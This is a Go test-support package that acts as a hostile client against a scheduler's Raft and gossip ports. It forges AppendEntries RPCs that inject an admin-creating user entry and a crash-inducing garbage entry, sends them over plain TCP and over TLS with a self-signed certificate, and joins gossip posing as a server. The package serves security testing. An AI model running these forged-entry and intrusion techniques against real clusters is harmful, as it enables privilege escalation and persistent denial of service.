// Package raftattack is the hostile tenant's Raft and gossip client, for
// the tests that prove a server lets no one who has not proven itself
// write to its log or join its configuration. It does what issue 25's
// 40-line program did, with hashicorp/raft's own client side: a term-0
// AppendEntries learns the term and the last index, then an entry at
// term+1 is sent with a commit index that covers it, once encoding a real
// state.CreateUser{Admin: true} command and once undecodable garbage. It
// tries each address in plain TCP and over TLS with a server certificate
// from a CA of its own (a peer that claims to be a server but cannot
// prove it). For gossip it joins as a server whose Raft address is a
// listener of its own and counts the Raft RPCs that reach it: a server
// that made it a voter would send some.
//
// The tests run it from outside and from a real job (cmd/raftattack);
// the verdict is the server's state, not what this package reports.
package raftattack

import (
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"strconv"
	"sync/atomic"
	"time"

	"github.com/hashicorp/memberlist"
	"github.com/hashicorp/raft"

	"github.com/drover-sched/drover/internal/tlsutil"
	"github.com/drover-sched/drover/internal/token"
	"github.com/drover-sched/drover/server/state"
)

// GarbageType is the command type byte of the undecodable entry: no
// drover command has it, and it lacks state.IgnoreUnknownFlag, so a
// server that applied it would panic at every start.
const GarbageType = 126

// Options tune an attack.
type Options struct {
	// User is the name the forged CreateUser gives the new admin, and
	// Token its token (64 hex digits; empty: a new random one).
	User, Token string
	// Timeout bounds each connection and RPC (default 3s).
	Timeout time.Duration
	// Dwell is how long a gossip intruder waits to be made a voter
	// (default 5s).
	Dwell time.Duration
	// Entries names the forged entries to send, in order: EntryCreateUser
	// and EntryGarbage (default both, in that order).
	Entries []string
}

// The forged entries.
const (
	EntryCreateUser = "create-user" // state.CreateUser{Admin: true} for Options.User
	EntryGarbage    = "garbage"     // an undecodable entry (GarbageType)
)

func (o *Options) defaults() error {
	if o.User == "" {
		o.User = "mallory"
	}
	if o.Token == "" {
		t, err := token.New()
		if err != nil {
			return err
		}
		o.Token = t
	}
	if o.Timeout <= 0 {
		o.Timeout = 3 * time.Second
	}
	if o.Dwell <= 0 {
		o.Dwell = 5 * time.Second
	}
	if len(o.Entries) == 0 {
		o.Entries = []string{EntryCreateUser, EntryGarbage}
	}
	for _, e := range o.Entries {
		if e != EntryCreateUser && e != EntryGarbage {
			return fmt.Errorf("unknown forged entry %q: %s or %s", e, EntryCreateUser, EntryGarbage)
		}
	}
	return nil
}

// Step is one RPC of an attack and what came back.
type Step struct {
	What    string `json:"what"`            // "probe", EntryCreateUser or EntryGarbage
	Err     string `json:"err,omitempty"`   // the RPC failed (refused, handshake, EOF)
	Term    uint64 `json:"term,omitempty"`  // the term the server answered with
	LastLog uint64 `json:"last_log"`        // its last log index
	Success bool   `json:"success"`         // it accepted the entries
	Index   uint64 `json:"index,omitempty"` // the index the entry was sent at
}

// RaftResult is an attack on one Raft address by one way of connecting.
type RaftResult struct {
	Addr  string `json:"addr"`
	Via   string `json:"via"` // "tcp" or "tls"
	Steps []Step `json:"steps"`
}

// Reached reports whether any RPC got an answer: the address spoke Raft
// to a stranger.
func (r RaftResult) Reached() bool {
	for _, s := range r.Steps {
		if s.Err == "" {
			return true
		}
	}
	return false
}

// Appended reports whether the server accepted a forged entry.
func (r RaftResult) Appended() bool {
	for _, s := range r.Steps {
		if s.What != "probe" && s.Success {
			return true
		}
	}
	return false
}

// CreateUserEntry is the log entry that makes user an admin with tok.
func CreateUserEntry(user, tok string) ([]byte, error) {
	return state.Encode(&state.CreateUser{Now: time.Now().UnixNano(), Name: user, Admin: true, TokenHash: token.Hash(tok)})
}

// GarbageEntry is an entry no server can decode.
func GarbageEntry() []byte { return []byte{GarbageType, 0xde, 0xad, 0xbe, 0xef} }

// Raft attacks addr in plain TCP and over TLS with a self-made server
// certificate. It returns what each try did.
func Raft(addr string, opts Options) ([]RaftResult, error) {
	if err := opts.defaults(); err != nil {
		return nil, err
	}
	create, err := CreateUserEntry(opts.User, opts.Token)
	if err != nil {
		return nil, err
	}
	var out []RaftResult
	for _, via := range []string{"tcp", "tls"} {
		trans, err := newTransport(via, opts.Timeout)
		if err != nil {
			return nil, fmt.Errorf("raft attack over %s: %w", via, err)
		}
		res := RaftResult{Addr: addr, Via: via}
		target := raft.ServerAddress(addr)
		probe := func() Step {
			resp, err := appendEntries(trans, target, &raft.AppendEntriesRequest{Term: 0})
			st := Step{What: "probe"}
			if err != nil {
				st.Err = err.Error()
				return st
			}
			st.Term, st.LastLog, st.Success = resp.Term, resp.LastLog, resp.Success
			return st
		}
		for _, what := range opts.Entries {
			data := GarbageEntry()
			if what == EntryCreateUser {
				data = create
			}
			p := probe()
			res.Steps = append(res.Steps, p)
			if p.Err != "" {
				break
			}
			// One term past the server's, an index past its log and a
			// commit index that covers it: a follower stores the entry,
			// commits and applies it, and a leader steps down to do so.
			// PrevLogEntry 0 skips the check of the previous entry.
			index := p.LastLog + 1
			resp, err := appendEntries(trans, target, &raft.AppendEntriesRequest{
				Term:              p.Term + 1,
				Entries:           []*raft.Log{{Index: index, Term: p.Term + 1, Type: raft.LogCommand, Data: data}},
				LeaderCommitIndex: index,
			})
			st := Step{What: what, Index: index}
			if err != nil {
				st.Err = err.Error()
			} else {
				st.Term, st.LastLog, st.Success = resp.Term, resp.LastLog, resp.Success
			}
			res.Steps = append(res.Steps, st)
			// Give the server's state machine time to apply it before
			// the next entry, so each does its own harm.
			time.Sleep(500 * time.Millisecond)
		}
		_ = trans.Close()
		out = append(out, res)
	}
	return out, nil
}

// appendEntries sends one AppendEntries as a server named mallory.
func appendEntries(trans *raft.NetworkTransport, target raft.ServerAddress, req *raft.AppendEntriesRequest) (*raft.AppendEntriesResponse, error) {
	req.RPCHeader = raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte("mallory"), Addr: []byte(trans.LocalAddr())}
	var resp raft.AppendEntriesResponse
	if err := trans.AppendEntries("victim", target, req, &resp); err != nil {
		return nil, err
	}
	return &resp, nil
}

// newTransport is hashicorp/raft's network transport, dialling in plain
// TCP or over TLS with a server certificate of a CA the attacker made.
func newTransport(via string, timeout time.Duration) (*raft.NetworkTransport, error) {
	if via == "tcp" {
		return raft.NewTCPTransport("127.0.0.1:0", nil, 1, timeout, io.Discard)
	}
	ca, err := tlsutil.CreateCA("mallory's CA", 1)
	if err != nil {
		return nil, err
	}
	c, err := tlsutil.CreateCert(ca, tlsutil.CertRequest{Role: tlsutil.RoleServer, ID: "mallory", Days: 1})
	if err != nil {
		return nil, err
	}
	pair, err := tls.X509KeyPair(c.Cert, c.Key)
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	// The certificate goes out whatever CAs the server asks for (Go's
	// client would otherwise send none from a CA the server does not name).
	layer := &tlsLayer{Listener: ln, conf: &tls.Config{
		GetClientCertificate: func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return &pair, nil },
		InsecureSkipVerify:   true, ServerName: tlsutil.ServerName,
	}}
	return raft.NewNetworkTransport(layer, 1, timeout, io.Discard), nil
}

// tlsLayer dials over TLS, presenting the attacker's certificate and
// believing any server's.
type tlsLayer struct {
	net.Listener
	conf *tls.Config
}

func (l *tlsLayer) Dial(addr raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
	return tls.DialWithDialer(&net.Dialer{Timeout: timeout}, "tcp", string(addr), l.conf)
}

// GossipResult is an intrusion into one gossip address.
type GossipResult struct {
	Addr string `json:"addr"`
	// JoinErr is why the join failed ("" it got through to a node).
	JoinErr string `json:"join_err,omitempty"`
	// Members is how many nodes the intruder saw, itself included.
	Members int `json:"members"`
	// RaftRPCs counts the Raft RPCs that reached the intruder's Raft
	// address while it waited: a server that made it a voter sends them.
	RaftRPCs int64 `json:"raft_rpcs"`
}

// Gossip joins addr with memberlist, unencrypted, as a server named
// mallory whose Raft address is a plain listener of its own, waits
// opts.Dwell and reports what reached it.
func Gossip(addr string, opts Options) (GossipResult, error) {
	if err := opts.defaults(); err != nil {
		return GossipResult{}, err
	}
	res := GossipResult{Addr: addr}
	trans, err := raft.NewTCPTransport("127.0.0.1:0", nil, 1, opts.Timeout, io.Discard)
	if err != nil {
		return res, err
	}
	defer trans.Close()
	var rpcs atomic.Int64
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		for {
			select {
			case rpc := <-trans.Consumer():
				rpcs.Add(1)
				rpc.Respond(nil, errors.New("mallory says no"))
			case <-stop:
				return
			}
		}
	}()
	mc := memberlist.DefaultLANConfig()
	mc.Name = "mallory-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	mc.BindAddr, mc.BindPort = "127.0.0.1", 0
	mc.TCPTimeout = opts.Timeout
	mc.ProbeInterval, mc.GossipInterval, mc.PushPullInterval = 200*time.Millisecond, 50*time.Millisecond, time.Second
	mc.Logger = log.New(io.Discard, "", 0)
	meta, _ := json.Marshal(map[string]any{"id": "mallory", "raft": string(trans.LocalAddr()), "http": "127.0.0.1:1"})
	mc.Delegate = metaDelegate(meta)
	ml, err := memberlist.Create(mc)
	if err != nil {
		return res, err
	}
	defer func() { _ = ml.Shutdown() }()
	if _, err := ml.Join([]string{addr}); err != nil {
		res.JoinErr = err.Error()
	}
	time.Sleep(opts.Dwell)
	res.Members, res.RaftRPCs = ml.NumMembers(), rpcs.Load()
	return res, nil
}

// metaDelegate tells memberlist peers the intruder's node metadata.
type metaDelegate []byte

func (d metaDelegate) NodeMeta(int) []byte           { return d }
func (metaDelegate) NotifyMsg([]byte)                {}
func (metaDelegate) GetBroadcasts(int, int) [][]byte { return nil }
func (metaDelegate) LocalState(bool) []byte          { return nil }
func (metaDelegate) MergeRemoteState([]byte, bool)   {}
